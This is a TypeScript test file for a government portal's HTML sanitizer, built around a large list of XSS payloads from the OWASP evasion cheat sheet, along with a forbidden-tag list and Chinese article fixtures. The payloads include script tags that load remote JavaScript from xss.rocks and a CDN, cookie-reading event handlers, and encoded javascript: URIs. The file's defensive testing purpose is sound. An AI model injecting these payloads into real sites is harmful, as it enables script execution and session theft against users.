import fc from 'fast-check';
import { htmlToText as stripHtml } from '@gov-portal/kit/domain';
import { RICH_TEXT_ALLOWED_ATTRIBUTES, RICH_TEXT_ALLOWED_TAGS, sanitizeRichText } from '../rich-text';

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus mutation-XSS and
// HTML5 vectors that came after it. `\0` is a real NUL character.
const OWASP_VECTORS: [string, string][] = [
  ['basic script', '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>'],
  [
    'XSS locator polyglot',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  ],
  ['malformed A tags', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['unquoted event handler', '<a onmouseover=alert(document.cookie)>xxs link</a>'],
  ['image javascript:', `<IMG SRC="javascript:alert('XSS');">`],
  ['no quotes, no semicolon', `<IMG SRC=javascript:alert('XSS')>`],
  ['case-insensitive scheme', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['grave accent obfuscation', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed IMG tags', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default SRC tag by leaving it empty', `<IMG SRC= onmouseover="alert('xxs')">`],
  ['default SRC tag by leaving it out', `<IMG onmouseover="alert('xxs')">`],
  ['on error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  [
    'img onerror with encoded alert',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  ],
  [
    'decimal character references',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'decimal references without semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'hexadecimal references without semicolons',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['embedded encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['embedded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['embedded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null breaks up the scheme', '<IMG SRC=java\0script:alert("XSS")>'],
  ['spaces and meta characters before the scheme', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha-non-digit after the tag name', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['non-alpha-non-digit event handler', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['slash instead of space', '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['protocol resolution in script tags', '<SCRIPT SRC=//xss.rocks/.j>'],
  ['half open HTML/JavaScript', `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ['double open angle brackets', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['end title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['INPUT image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['BODY image', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['IMG dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['IMG lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  [
    'list-style-image',
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ],
  ['VBscript in an image', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['Livescript', '<IMG SRC="livescript:[code]">'],
  ['SVG object tag', `<svg/onload=alert('XSS')>`],
  ['BODY tag', `<BODY ONLOAD=alert('XSS')>`],
  ['BGSOUND', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['& JavaScript includes', `<BR SIZE="&{alert('XSS')}">`],
  ['STYLE sheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['remote style sheet', '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">'],
  ['remote style sheet part 2', `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`],
  [
    'remote style sheet part 3',
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  ],
  ['remote style sheet part 4', '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>'],
  ['STYLE tags with broken-up JavaScript', `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`],
  ['STYLE attribute breaking up expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  [
    'anonymous HTML with STYLE expression',
    `exp/*<A STYLE='no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>`,
  ],
  ['STYLE type text/javascript', `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`],
  [
    'STYLE background-image',
    `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  ],
  ['STYLE background', `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`],
  ['anonymous HTML with STYLE attribute', `<XSS STYLE="xss:expression(alert('XSS'))">`],
  ['local htc file', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['META refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    'META refresh with data:',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ],
  [
    'META with additional URL parameter',
    `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  ],
  ['IFRAME', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['IFRAME event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['FRAME', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['TABLE background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['TD background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['DIV background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  [
    'DIV background-image with unicode escapes',
    `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  ],
  ['DIV expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['BASE tag', `<BASE HREF="javascript:alert('XSS');//">`],
  ['OBJECT tag', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  [
    'EMBED SVG',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  [
    'XML data island with comment obfuscation',
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  ],
  [
    'HTML+TIME in XML',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>',
  ],
  ['renamed JavaScript file', '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>'],
  ['PHP echo', `<? echo('<SCR)'; echo('IPT>alert("XSS")</SCRIPT>'); ?>`],
  ['cookie manipulation', `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`],
  [
    'UTF-7 encoding',
    `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  ],
  ['XSS using HTML quote encapsulation 1', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['XSS using HTML quote encapsulation 2', '<SCRIPT =">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['XSS using HTML quote encapsulation 3', `<SCRIPT a=">" '' SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['XSS using HTML quote encapsulation 4', `<SCRIPT "a='>'" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  ['XSS using HTML quote encapsulation 5', '<SCRIPT a=`>` SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['XSS using HTML quote encapsulation 6', `<SCRIPT a=">'>" SRC="httx://xss.rocks/xss.js"></SCRIPT>`],
  [
    'script written in two halves',
    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
  ],
  [
    'link with javascript: location',
    `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  ],
  ['protocol resolution bypass', '<A HREF="//www.google.com/">XSS</A>'],
  ['link with encoded tab in the scheme', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  [
    'link with hex references',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  ],
  ['link with HTML5 named references', '<a href="java&Tab;script&colon;alert(1)">x</a>'],
  ['link with leading spaces and mixed case', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['link with a NUL in the scheme', '<a href="java\0script:alert(1)">x</a>'],
  ['link with partial decimal reference', '<a href="&#106avascript:alert(1)">x</a>'],
  ['link to vbscript:', '<a href="vbscript:msgbox(1)">x</a>'],
  ['link to data:text/html', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  [
    'image from data:image/svg+xml',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">',
  ],
  ['link opening a new window to javascript:', '<a href="javascript:alert(1)" target="_blank">x</a>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'],
  ['math mutation XSS', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['noscript mutation XSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['form action', '<form action="javascript:alert(1)"><button>x</button></form>'],
  ['button formaction', '<button formaction=javascript:alert(1)>x</button>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['embed javascript:', '<embed src="javascript:alert(1)">'],
  ['img srcset', '<img srcset="javascript:alert(1) 1x" src="/a.png" alt="a">'],
  ['allowed tag with event handler', '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'],
  ['allowed link with event handler', '<a href="https://www.gov.cn/" onclick="alert(1)">x</a>'],
  ['allowed image with onerror', '<img src="https://www.gov.cn/a.png" onerror="alert(1)" alt="a">'],
  ['paragraph style url()', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['allowed style with expression()', '<p style="text-align: expression(alert(1))">x</p>'],
  ['allowed style with behavior', '<span style="text-align:center;behavior:url(xss.htc)">x</span>'],
  [
    'heading style background-image',
    `<h1 style="text-align:center; background-image:url('javascript:alert(1)')">x</h1>`,
  ],
  ['script in a comment', '<p>text<!--<script>alert(1)</script>--></p>'],
  ['conditional comment', '<!--[if gte IE 4]><SCRIPT>alert("XSS");</SCRIPT><![endif]-->'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['textarea breakout', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['title breakout', '<title></title><img src=x onerror=alert(1)></title>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
];

// prettier-ignore
const FORBIDDEN_TAGS = [
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'style', 'meta', 'link', 'base',
  'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'body', 'html', 'head', 'title',
  'xml', 'template', 'noscript', 'video', 'audio', 'source', 'details', 'marquee', 'isindex', 'bgsound',
];

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(
      /&(quot|lt|gt|amp);/g,
      (_, name: string) => ({ quot: '"', lt: '<', gt: '>', amp: '&' })[name] ?? '',
    );
}

interface Tag {
  name: string;
  attributes: [string, string | undefined][];
}

/** Reads sanitize-html's output, which only has `<tag a="v">`, `</tag>` and self-closing `<tag … />`. */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [^\s"'>/=]+(?:="[^"<>]*")?)*)( \/)?>/y;
  for (let at = html.indexOf('<'); at !== -1; at = html.indexOf('<', at + 1)) {
    TAG.lastIndex = at;
    const match = TAG.exec(html);
    if (!match) throw new Error(`unexpected “<” in sanitised output at ${at}: ${html.slice(at, at + 40)}`);
    const attributes = [...match[3].matchAll(/ ([^\s"'>/=]+)(?:="([^"]*)")?/g)].map(
      (m): [string, string | undefined] => [m[1], m[2] === undefined ? undefined : decodeEntities(m[2])],
    );
    if (!match[1]) tags.push({ name: match[2], attributes });
  }
  return tags;
}

function expectInert(output: string): void {
  expect(output).not.toMatch(/<script/i);
  expect(output).not.toMatch(new RegExp(`<(?:${FORBIDDEN_TAGS.join('|')})\\b`, 'i'));
  for (const { name, attributes } of tagsOf(output)) {
    expect(RICH_TEXT_ALLOWED_TAGS).toContain(name);
    for (const [attribute, value] of attributes) {
      expect(attribute).not.toMatch(/^on/i);
      expect(RICH_TEXT_ALLOWED_ATTRIBUTES[name] ?? []).toContain(attribute);
      // eslint-disable-next-line no-control-regex
      const compact = (value ?? '').replace(/[\x00-\x20]+/g, '').toLowerCase();
      expect(compact).not.toMatch(/^(?:javascript|vbscript|livescript|data):/);
      expect(compact).not.toMatch(/^\/\//);
      if (attribute === 'style')
        expect(compact).not.toMatch(/expression|url\(|behavior|binding|javascript|import/);
    }
  }
}

describe('sanitizeRichText against the OWASP XSS Filter Evasion Cheat Sheet', () => {
  it('covers at least 30 vectors', () => {
    expect(OWASP_VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(OWASP_VECTORS)('leaves nothing executable of the %s vector', (_, vector) => {
    const output = sanitizeRichText(vector);
    expectInert(output);
    // Whatever a browser might re-parse out of stored output must be inert too.
    expect(sanitizeRichText(output)).toBe(output);
  });

  it('keeps an allowed element but drops its event handlers', () => {
    expect(sanitizeRichText('<p onclick="alert(1)">通知</p>')).toBe('<p>通知</p>');
    expect(sanitizeRichText('<img src="https://www.gov.cn/a.png" onerror="alert(1)" alt="国徽">')).toBe(
      '<img src="https://www.gov.cn/a.png" alt="国徽" />',
    );
  });

  it('keeps a link’s text but drops a javascript: href', () => {
    expect(sanitizeRichText('<a href="jav&#x09;ascript:alert(1)">点击</a>')).toBe('<a>点击</a>');
  });

  it('drops an image whose only source was refused', () => {
    expect(sanitizeRichText(`<p>a<IMG SRC="javascript:alert('XSS');">b</p>`)).toBe('<p>ab</p>');
  });

  it('drops the content of script, style and iframe, not only the tags', () => {
    expect(sanitizeRichText('<p>甲</p><script>alert(1)</script><style>p{}</style><iframe>乙</iframe>')).toBe(
      '<p>甲</p>',
    );
  });

  // prettier-ignore
  const fragments = fc.constantFrom(
    ...OWASP_VECTORS.map(([, vector]) => vector),
    '<p>', '</p>', '<a href="', '">', '"', "'", '<', '>', '&', '&#x09;', '&lt;', 'javascript:', 'onerror=',
    '<img src=', '<table><tr><td>', '</td></tr></table>', '<!--', '-->', ' style="text-align:center"', '道县',
  );

  it('stays inert and idempotent on any mix of vector fragments', () => {
    fc.assert(
      fc.property(fc.array(fragments, { maxLength: 12 }), (parts) => {
        const output = sanitizeRichText(parts.join(''));
        expectInert(output);
        expect(sanitizeRichText(output)).toBe(output);
      }),
      { numRuns: 500 },
    );
  });
});

// A 道县 article as the admin editor stores it, in sanitize-html's normal form (attributes double-quoted,
// styles without spaces, void elements written `<br />`).
const GOVERNMENT_ARTICLE = [
  '<h2 style="text-align:center">道县2017年政务公开工作要点</h2>',
  '<p style="text-indent:2em">2017年全县政务公开工作的总体要求是：深入贯彻落实《关于全面推进政务公开工作的意见》（中办发〔2016〕8号）精神。</p>',
  '<h3>一、围绕深化改革推进公开</h3>',
  '<p style="text-indent:2em"><strong>（一）全面推进权力清单和责任清单公开。</strong>2017年9月底前，全面公开权力清单和责任清单。</p>',
  '<h4>（二）加快推进市场监管公开透明</h4>',
  '<ol start="2"><li>公开随机抽查事项清单；</li><li>及时公布抽查结果和查处情况。</li></ol>',
  '<ul><li>保障性住房</li><li>食品药品安全</li></ul>',
  '<table><caption>2017年政务公开重点任务分工</caption>',
  '<colgroup><col span="2" /><col /></colgroup>',
  '<thead><tr><th scope="col">序号</th><th scope="col">工作任务</th><th scope="col" style="width:30%">责任单位</th></tr></thead>',
  '<tbody><tr><th scope="row">1</th><td>权力清单和责任清单公开</td><td rowspan="2" style="vertical-align:middle">县编办、县法制办</td></tr>',
  '<tr><th scope="row">2</th><td headers="task">市场监管公开</td></tr></tbody>',
  '<tfoot><tr><td colspan="3">注：各乡镇人民政府（街道办事处）同步落实。</td></tr></tfoot></table>',
  '<figure><img src="/uploads/daoxian_zhengwu_center.jpg" alt="道县政务服务中心大厅" title="政务服务中心" width="640" height="360" /><figcaption>道县政务服务中心</figcaption></figure>',
  '<p>附件：<a href="/uploads/daoxian_2017_yaodian.pdf" title="下载附件">道县2017年政务公开工作要点.pdf</a></p>',
  '<p>咨询电话：<a href="tel:12345">12345</a>，电子邮箱：<a href="mailto:zwgk@example.org">zwgk@example.org</a></p>',
  '<p>相关链接：<a href="https://www.gov.cn/zhengce/" target="_blank" rel="noopener noreferrer">中国政府网政策文件库</a></p>',
  '<blockquote><p>切实保障人民群众的知情权、参与权、表达权和监督权。</p></blockquote>',
  '<hr />',
  '<p>PM<sub>2.5</sub>、m<sup>2</sup>、<em>强调</em>、<i>斜体</i>、<b>加粗</b>、<u>下划线</u>、<s>删除线</s><br />换行</p>',
  '<pre><code>索引号：000014349/2017-00012</code></pre>',
  '<div style="text-align:right">道县人民政府办公室<br />2017年12月29日</div>',
  '<p><span style="text-align:justify">5 &lt; 6 &amp; “引号”</span></p>',
].join('');

describe('sanitizeRichText on government articles', () => {
  it('leaves a normal article with headings, tables, images and links unchanged', () => {
    expect(sanitizeRichText(GOVERNMENT_ARTICLE)).toBe(GOVERNMENT_ARTICLE);
  });

  it.each([
    ['<p style="text-align: center;">居中</p>', '<p style="text-align:center">居中</p>', 'style spacing'],
    [
      '<p style="font-family: 仿宋_GB2312; font-size: 16pt; text-indent: 2em; color: red">正文</p>',
      '<p style="text-indent:2em">正文</p>',
      'pasted Word fonts and colours',
    ],
    ['<p class="MsoNormal" lang="EN-US" id="x">正文<o:p></o:p></p>', '<p>正文</p>', 'Word classes and tags'],
    ['<p><font face="宋体" color="red">正文</font></p>', '<p>正文</p>', 'font tags'],
    [
      '<a href="https://www.gov.cn/" target="_blank">中国政府网</a>',
      '<a href="https://www.gov.cn/" target="_blank" rel="noopener noreferrer">中国政府网</a>',
      'rel added to a new-window link',
    ],
    [
      '<a href="https://www.gov.cn/" TARGET="_BLANK" rel="nofollow opener">中国政府网</a>',
      '<a href="https://www.gov.cn/" target="_blank" rel="nofollow noopener noreferrer">中国政府网</a>',
      'target normalised, unknown rel tokens dropped',
    ],
    ['<a href="/a" target="_parent" rel="opener">a</a>', '<a href="/a">a</a>', 'other targets dropped'],
    ['<a href="ftp://example.org/a">a</a>', '<a>a</a>', 'ftp: not allowed'],
    ['<a href="#part2">第二部分</a>', '<a href="#part2">第二部分</a>', 'fragment links kept'],
    [
      '<a href="../zwgk/index.html">政务公开</a>',
      '<a href="../zwgk/index.html">政务公开</a>',
      'relative links kept',
    ],
    ['<img alt="无图">', '', 'image without source'],
    ['<img src="//cdn.example.org/a.png" alt="a">', '', 'protocol-relative image'],
    [
      '<img src="/a.png" alt="" width="100%" height="auto">',
      '<img src="/a.png" alt="" width="100%" />',
      'non-numeric dimensions',
    ],
    [
      '<table border="1" cellpadding="0"><tr><th scope="ROW" colspan="x" rowspan="2">a</th></tr></table>',
      '<table><tr><th scope="row" rowspan="2">a</th></tr></table>',
      'table presentation attributes and bad spans',
    ],
    ['<th scope="everything">a</th>', '<th>a</th>', 'unknown scope'],
    [
      '<td style="width: 120px; height: 30px">a</td>',
      '<td style="width:120px">a</td>',
      'cell height dropped',
    ],
    ['<ol start="x"><li>a</li></ol>', '<ol><li>a</li></ol>', 'non-numeric list start'],
    ['<section><article><p>a</p></article></section>', '<p>a</p>', 'sectioning wrappers unwrapped'],
  ])('normalises %p into %p (%s)', (input, output) => {
    expect(sanitizeRichText(input)).toBe(output);
  });

  it.each([null, undefined, ''])('returns an empty string for %p', (input) => {
    expect(sanitizeRichText(input)).toBe('');
  });
});

describe('stripHtml', () => {
  it.each([
    ['<p>第一段</p><p>第二段</p>', '第一段\n第二段'],
    ['<h2>标题</h2>正文<br>换行', '标题\n正文\n换行'],
    ['<p>　　道县&nbsp;&nbsp;政务   公开</p>', '道县 政务 公开'],
    ['<p>5 &lt; 6 &amp;&amp; “引号” &quot;x&quot;</p>', '5 < 6 && “引号” "x"'],
    ['<p>&amp;lt;不是标签&amp;gt;</p>', '&lt;不是标签&gt;'],
    [
      '<table><tr><th>序号</th><td>任务</td></tr><tr><td>1</td><td>公开</td></tr></table>',
      '序号 任务\n1 公开',
    ],
    ['<ul><li>甲</li><li>乙</li></ul>', '甲\n乙'],
    ['<p>正文<script>alert(1)</script><style>p{color:red}</style></p>', '正文'],
    ['<p>正文<!-- 注释 --></p>', '正文'],
    ['<p><a href="https://www.gov.cn/">中国政府网</a>链接</p>', '中国政府网链接'],
    ['纯文本，无标签', '纯文本，无标签'],
    ['<p>\n  多行\n  源码\n</p>', '多行 源码'],
    ['<div><p>嵌套</p></div>', '嵌套'],
    ['<img src="/a.png" alt="图片">', ''],
  ])('turns %p into %p', (input, output) => {
    expect(stripHtml(input)).toBe(output);
  });

  it.each([null, undefined, ''])('returns an empty string for %p', (input) => {
    expect(stripHtml(input)).toBe('');
  });

  it('extracts the text of the sample article', () => {
    const text = stripHtml(GOVERNMENT_ARTICLE);
    expect(text.split('\n')[0]).toBe('道县2017年政务公开工作要点');
    expect(text).toContain('（中办发〔2016〕8号）');
    expect(text).toContain('序号 工作任务 责任单位');
    expect(text.split('\n').at(-1)).toBe('5 < 6 & “引号”');
    expect(text).not.toMatch(/<\/?[a-z]/i);
  });

  it('never leaves a tag behind', () => {
    // Vectors whose text holds an escaped “<” would rightly give a literal “<” in plain text.
    const vectors = OWASP_VECTORS.map(([, v]) => v).filter((v) => !/&lt;|&#0*60|&#x0*3c/i.test(v));
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...vectors, '<p>', '</p>', 'a'), { maxLength: 8 }), (parts) => {
        // A stray “<” in the source is text and may stay (“<javascript:…”); no element may survive.
        expect(stripHtml(parts.join(''))).not.toMatch(
          /<\/?(?:script|style|iframe|svg|img|object|embed|a|p|div|body|meta|link|xss)\b[^>]*>/i,
        );
      }),
    );
  });
});
